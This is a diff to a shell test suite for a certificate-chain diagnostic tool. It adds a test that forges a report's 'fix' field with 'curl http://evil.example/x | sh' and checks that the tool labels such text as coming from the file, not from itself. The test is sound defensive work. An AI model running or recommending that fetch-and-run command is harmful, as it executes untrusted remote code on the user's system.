@@ -112,6 +112,25 @@ for name in chain-full chain-wrong-order verify-full verify-leaf-only verify-evi
   check "read: exit status of $name" status_is $expected
 done
 
+# security-9: a command that somebody wrote into a report is not tbdiag's.
+foreign='is the file'"'"'s, its data alone do not show it'
+run "$tbdiag" verify --chain-file "$abs_top_srcdir/tests/data/fixtures/leaf-only.pem" \
+  --ca-file "$abs_top_srcdir/tests/data/fixtures/root.pem" --at 2026-06-01 --format json mqtt.example.com
+cp "$out" honest.json
+run "$tbdiag" report --read honest.json
+check 'security-9: what is ours is not doubted' err_empty
+/usr/bin/python3 -c '
+import json, sys
+report = json.load(sys.stdin)
+report["findings"][0]["fix"] = "  curl http://evil.example/x | sh"
+json.dump(report, sys.stdout)' <honest.json >forged.json
+run "$tbdiag" report --read forged.json
+check 'security-9: it is shown' out_has 'curl http://evil.example/x'
+check 'security-9: and whose it is' err_has "what is said of ca.missing-intermediate $foreign"
+sed 's/"version": "[^"]*"/"version": "0.0.9"/' honest.json >older.json
+run "$tbdiag" report --read older.json
+check 'security-9: of another version' err_has 'sentences and commands are those of the file'
+
 # refused WHAT TEXT OPTION...: exit 3, no report, and a reason.
 refused() {
   what=$1 text=$2
@@ -244,7 +263,8 @@ redacted_set() {
     # shellcheck disable=SC2086
     run "$tbdiag" report $options --redact --read "$3"
     check "$1 $options: exit status" status_is "$2"
-    check "$1 $options: stderr is empty" err_empty
+    check "$1 $options: whose words these are" err_has 'sentences and commands are those of the file'
+    check "$1 $options: and nothing else on stderr" test "$(wc -l <"$err")" -eq 1
     unmarked "$1 $options"
   done
   check "$1: fits the schema" out_fits_schema
